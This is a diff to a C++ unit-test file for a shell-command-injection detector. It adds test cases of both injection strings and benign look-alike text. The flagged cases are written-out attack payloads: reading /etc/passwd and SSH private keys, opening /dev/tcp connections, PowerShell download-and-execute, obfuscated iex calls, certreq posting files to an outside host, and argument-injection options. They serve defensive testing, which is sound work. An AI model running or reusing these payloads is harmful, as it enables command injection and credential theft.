@@ -74,7 +74,15 @@ INSTANTIATE_TEST_SUITE_P(
                     ";$'\\151\\144'", ";a=id;$a", ";X=cat;Y=/etc/passwd;$X $Y", "cat /[e]tc/passwd",
                     "/etc/pas[s]wd", ";cat ${HOME}/.ssh/id_rsa",
                     "cat ${PATH:0:1}etc${PATH:0:1}passwd", ";c$?at /etc/passwd",
-                    "|+cat+/etc/passwd", ";$0<<<id", ";\"w\"hoami"));
+                    "|+cat+/etc/passwd", ";$0<<<id", ";\"w\"hoami", "c{a,oun}t", "{l,-lh}s",
+                    "{,echo,#x}", "x;pi<()ng 192.0.2.1", "kill '-'9", ";\\id"));
+INSTANTIATE_TEST_SUITE_P(Builtins, IsShell,
+                         testing::Values("echo %USERNAME%", "; echo $HOME", ";. /etc/profile",
+                                         "exec 5<>/dev/tcp/192.0.2.1/9", ";compgen -c",
+                                         ";read a</etc/hosts", ";python3.11 -m http.server",
+                                         ";perl5.30 -v", ";nslookup `hostname`.a.example"));
+INSTANTIATE_TEST_SUITE_P(LinesOfSqlite, IsShell,
+                         testing::Values(";.shell id", "1\n.system id", ";.import /etc/hosts t"));
 INSTANTIATE_TEST_SUITE_P(Statements, IsShell,
                          testing::Values("while true; do sleep 1; done",
                                          "if [ -f /x ]; then sleep 5; fi", "f(){ f|f& };f",
@@ -83,7 +91,9 @@ INSTANTIATE_TEST_SUITE_P(Options, IsShell,
                          testing::Values("-oProxyCommand=id", "-o ProxyCommand=sh",
                                          "--use-askpass=/x", "--checkpoint-action=exec=sh x",
                                          "--post-file=/etc/passwd", "--output=/var/www/x.php",
-                                         "--upload-pack=touch /tmp/x"));
+                                         "--upload-pack=touch /tmp/x",
+                                         "x' -exec cat /etc/hosts {} + -name '",
+                                         "a --checkpoint-action=exec=id"));
 
 class IsWindowsShell : public testing::TestWithParam<const char*> {};
 TEST_P(IsWindowsShell, InAParameter) {
@@ -99,7 +109,12 @@ INSTANTIATE_TEST_SUITE_P(
                     "if not exist c:\\x.txt dir", "if red==red echo x",
                     "if \"a b\" == \"a b\" (dir)", "IF %ERRORLEVEL% NEQ 0 x",
                     "; Get-Content c:\\x.ini", "powershell -enc SQBFAFgA",
-                    "; iex (iwr http://192.0.2.1/x)", "| Get-ChildItem -Path c:\\"));
+                    "; iex (iwr http://192.0.2.1/x)", "| Get-ChildItem -Path c:\\", "; i`ex whoami",
+                    "; &('i'+'ex') 'whoami'", "& (\"{1}{0}\" -f 'x','ie')",
+                    "; [IO.File]::ReadAllText('c:\\x')", "; $c=New-Object Net.WebClient -x",
+                    "& timeout /t 10", "& certreq -Post -config http://192.0.2.1 c:\\x",
+                    "if not defined a (", "if (%1)==(a) cd c:\\", "if (a) == (a) echo same",
+                    "if/i a==b dir"));
 
 class IsNoShell : public testing::TestWithParam<const char*> {};
 TEST_P(IsNoShell, InAnyPlace) {
@@ -126,16 +141,21 @@ INSTANTIATE_TEST_SUITE_P(
                     "net 30 days", "Rock & Roll; Jazz", "my cat; her dog", "kill -9 explained",
                     "if not defined by law", "if it exists; copy it", "alias smith",
                     "call home\nfind keys\nmore milk\nsleep", "I'd like to sleep & eat at 5",
-                    "let me know about the laundry../bin & supplies"));
-INSTANTIATE_TEST_SUITE_P(OtherLanguages, IsNoShell,
-                         testing::Values("&amp;", "Fish &amp; Chips", "&copy; 2024", "$100",
-                                         "{a,b}", "foo && bar", "var a = 1; var b = 2;",
-                                         "a{color:red;top:0}", "console.log(`id ${id}`);",
-                                         "$(this)", "$(document)", "${user.name}", "a; find(b)",
-                                         "x; sort(y)", "0 5 * * 1", "^(id|name)$",
-                                         "{\"cat\":\"dog\",\"id\":5}", "text/html; charset=utf-8",
-                                         "git+https://a.example/x.git",
-                                         "query { products {\n  id\n  name\n  date\n } }"));
+                    "let me know about the laundry../bin & supplies", "the `ls` command",
+                    "find the `date` field", "read more; write less", "; read on | read more",
+                    "knife & fork; puppet", "time flies", "if not defined well (see below)",
+                    "sort by -date", "cut & paste -fast", "rock -exec summary", "a -ok then",
+                    "R&D; ping me", "cats & dogs", "less is more; more or less"));
+INSTANTIATE_TEST_SUITE_P(
+    OtherLanguages, IsNoShell,
+    testing::Values("&amp;", "Fish &amp; Chips", "&copy; 2024", "$100", "{a,b}", "foo && bar",
+                    "var a = 1; var b = 2;", "a{color:red;top:0}", "console.log(`id ${id}`);",
+                    "$(this)", "$(document)", "${user.name}", "a; find(b)", "x; sort(y)",
+                    "0 5 * * 1", "^(id|name)$", "{\"cat\":\"dog\",\"id\":5}",
+                    "text/html; charset=utf-8", "git+https://a.example/x.git",
+                    "query { products {\n  id\n  name\n  date\n } }", "{id,name}", "{date,time}",
+                    "d{1,3}", "file{1,2}.txt", "std::vector", "[a]::b", "\\top", "\\ln x", "$a = 5",
+                    "('a'+'b')", ".tables of contents", "x.read", "/*/*"));
 INSTANTIATE_TEST_SUITE_P(
     Agents, IsNoShell,
     testing::Values("Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
